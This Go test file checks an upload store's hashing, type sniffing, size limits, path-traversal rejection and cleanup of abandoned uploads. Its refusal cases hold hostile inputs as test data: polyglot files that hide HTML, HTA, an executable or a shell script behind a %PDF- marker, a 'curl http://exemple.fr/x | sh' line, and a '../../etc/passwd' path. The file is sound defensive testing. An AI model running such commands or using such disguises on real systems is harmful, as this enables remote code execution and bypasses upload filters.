package files_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"guichet/files"
)

// Minimal real headers of each kind, padded: what the sniffer sees.
var (
	pdf = append([]byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"), bytes.Repeat([]byte("x"), 5000)...)
	png = append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"), make([]byte, 100)...)
	exe = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 200)...)
)

func init() {
	// A PE executable has its "PE\0\0" signature where the offset at 0x3c points.
	exe[0x3c] = 0x80
	copy(exe[0x80:], "PE\x00\x00")
}

// filesIn lists the regular files under dir, temporary ones included.
func filesIn(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out = append(out, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestReceiveKeepsUnderHashAndSniffsType(t *testing.T) {
	s := &files.Store{Dir: t.TempDir()}
	up, err := s.Receive(bytes.NewReader(pdf), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	info := up.Info
	if info.ContentType != "application/pdf" || info.Size != int64(len(pdf)) || len(info.SHA256) != 64 {
		t.Fatalf("info = %+v", info)
	}
	if _, err := s.Open(context.Background(), info.SHA256); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("in the store before it is kept: %v", err)
	}
	if err := up.Keep(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	up.Discard() // a no-op once kept
	f, err := s.Open(context.Background(), info.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := io.ReadAll(f)
	f.Close()
	if !bytes.Equal(got, pdf) {
		t.Fatal("stored content differs")
	}
	if _, err := os.Stat(filepath.Join(s.Dir, info.SHA256[:2], info.SHA256)); err != nil {
		t.Fatalf("not stored under its hash: %v", err)
	}
	again, err := s.Receive(bytes.NewReader(pdf), 1<<20)
	if err != nil || again.Info != info {
		t.Fatalf("same content again: %+v %v", again, err)
	}
	again.Discard()
	if left := filesIn(t, s.Dir); len(left) != 1 {
		t.Fatalf("after discarding a second copy: %v", left)
	}
	if err := s.Remove(context.Background(), nil, info.SHA256); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Open(context.Background(), info.SHA256); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("after remove: %v", err)
	}
}

func TestReceiveRefuses(t *testing.T) {
	cases := []struct {
		name    string
		content []byte
		max     int64
		reason  string // in the French reason; empty for ErrTooLarge
	}{
		{"executable named .pdf", exe, 1 << 20, "programme exécutable"},
		{"html", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), 1 << 20, "page web"},
		{"plain text", []byte("bonjour"), 1 << 20, "Formats acceptés : PDF, JPEG, PNG"},
		// The sniffer takes "%PDF-" anywhere in the first kilobyte for a PDF.
		{"html holding %PDF-", []byte("<!DOCTYPE html><html><!-- %PDF-1.7 --><script>alert(1)</script></html>"), 1 << 20, "page web"},
		{"hta holding %PDF-", []byte("<html><head><HTA:APPLICATION ID=\"x\"></head><body>%PDF-1.4</body></html>"), 1 << 20, "page web"},
		{"executable holding %PDF-", append(append([]byte{}, exe...), "%PDF-1.7"...), 1 << 20, "programme exécutable"},
		{"shell script holding %PDF-", []byte("#!/bin/sh\n# %PDF-1.4\ncurl http://exemple.fr/x | sh\n"), 1 << 20, "Formats acceptés : PDF"},
		{"%PDF- after a newline", append([]byte("\n"), pdf...), 1 << 20, "Formats acceptés : PDF"},
		{"one byte over", pdf, int64(len(pdf)) - 1, ""},
		{"over within the sniffed head", png, 10, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			s := &files.Store{Dir: dir}
			_, err := s.Receive(bytes.NewReader(tc.content), tc.max)
			var refused *files.RefusedError
			switch {
			case tc.reason == "" && !errors.Is(err, files.ErrTooLarge):
				t.Fatalf("want ErrTooLarge, got %v", err)
			case tc.reason != "" && (!errors.As(err, &refused) || !strings.Contains(refused.Reason(), tc.reason)):
				t.Fatalf("want a refusal saying %q, got %v", tc.reason, err)
			}
			if kept := filesIn(t, dir); len(kept) > 0 {
				t.Fatalf("refused file left on disk: %v", kept)
			}
		})
	}
}

func TestReceiveAcceptsExactlyMax(t *testing.T) {
	s := &files.Store{Dir: t.TempDir()}
	up, err := s.Receive(bytes.NewReader(png), int64(len(png)))
	if err != nil {
		t.Fatal(err)
	}
	up.Discard()
	if left := filesIn(t, s.Dir); len(left) != 0 {
		t.Fatalf("discarded upload left on disk: %v", left)
	}
}

func TestOpenRejectsPaths(t *testing.T) {
	s := &files.Store{Dir: t.TempDir()}
	if _, err := s.Open(context.Background(), "../../etc/passwd"); err == nil || errors.Is(err, os.ErrNotExist) {
		t.Fatalf("path accepted: %v", err)
	}
}

// An upload's temporary file that a stopped process left behind goes after
// a day; one being received, and stored files, stay.
func TestSweepAbandoned(t *testing.T) {
	s := &files.Store{Dir: t.TempDir()}
	up, err := s.Receive(bytes.NewReader(pdf), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	defer up.Discard()
	kept, err := s.Receive(bytes.NewReader(png), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if err := kept.Keep(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	old := filepath.Join(s.Dir, ".upload-abandoned")
	if err := os.WriteFile(old, pdf, 0o600); err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	if err := os.Chtimes(old, now.Add(-25*time.Hour), now.Add(-25*time.Hour)); err != nil {
		t.Fatal(err)
	}
	before := len(filesIn(t, s.Dir))
	n, err := s.SweepAbandoned(now, 24*time.Hour)
	if err != nil || n != 1 {
		t.Fatalf("swept %d (%v), want 1", n, err)
	}
	if _, err := os.Stat(old); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the abandoned upload is still there: %v", err)
	}
	if after := len(filesIn(t, s.Dir)); after != before-1 {
		t.Errorf("%d files left, want %d: %v", after, before-1, filesIn(t, s.Dir))
	}
}
